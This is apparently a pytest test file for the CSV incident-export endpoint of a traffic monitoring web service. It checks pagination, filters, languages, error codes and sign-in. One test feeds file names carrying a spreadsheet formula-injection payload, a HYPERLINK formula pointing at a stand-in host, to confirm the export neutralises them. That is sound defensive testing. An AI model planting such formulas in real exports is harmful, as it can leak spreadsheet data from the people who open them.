"""The incidents as a table."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from trafico_monitor.model.download import Download
from trafico_monitor.web.export import COLUMNS, PAGE

from .opened import NOON, Opened
from .samples import HOSTILE, sample

TABLE = "/api/v1/incidents.csv"


async def table(window: Opened, query: str = "") -> list[dict[str, str]]:
    said = await window.ask("GET", f"{TABLE}{query}")
    assert said.status == 200 and said.headers["content-type"] == "text/csv; charset=utf-8", said
    assert said.headers["content-disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(said.body.decode("utf-8-sig"), newline="")))


async def test_every_incident_of_a_filter_once_however_many_pages(window: Opened) -> None:
    count = 2 * PAGE + 7
    await window.keep(*(sample(n) for n in range(count)))
    rows = await table(window)
    assert len({one["id"] for one in rows}) == len(rows) == count and tuple(rows[0]) == COLUMNS
    assert [one["opened_at"] for one in rows] == sorted((one["opened_at"] for one in rows), reverse=True)
    wanted = await table(window, "?type=timeout&modelo=victor")
    assert wanted == [one for one in rows if (one["error_type"], one["modelo"]) == ("timeout", "victor")] != []


async def test_times_sizes_and_words(window: Opened) -> None:
    await window.keep(sample(3))
    [es], [en] = await table(window, "?language=es"), await table(window, "?language=en")
    assert datetime.fromisoformat(es["opened_at"]).timestamp() == NOON - 600
    assert (es["size"], es["closed_at"] != "", es["estado"]) == ("5665533", True, "solucionado")
    assert es["accion_text"] != en["accion_text"] != ""


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
async def test_no_name_is_a_formula(window: Opened, begin: str) -> None:
    name = f'{begin}HYPERLINK("http://x"&A1)"\n,.mp4'
    await window.keep(sample(1, download=Download("ana", name)), sample(2, download=Download("ana", HOSTILE)))
    [first, second] = await table(window)
    assert {first["video"], second["video"]} == {f"'{name}", HOSTILE}


async def test_a_database_that_cannot_be_read_is_no_empty_table(window: Opened) -> None:
    (window.socket.parent / "state" / "monitor.db").unlink()
    assert (await window.ask("GET", TABLE)).status == 503


@pytest.mark.parametrize("query", ["limit=5", "cursor=1~AAAA", "type=error", "language=fr"])
async def test_wrong_parameters_are_named(window: Opened, query: str) -> None:
    said = await window.ask("GET", f"{TABLE}?{query}")
    assert (said.status, set(said.json["fields"])) == (422, {query.partition("=")[0]})  # type: ignore[call-overload]


async def test_who_has_not_signed_in_gets_none(window: Opened) -> None:
    assert (await window.ask("GET", TABLE, local=False)).status == 401
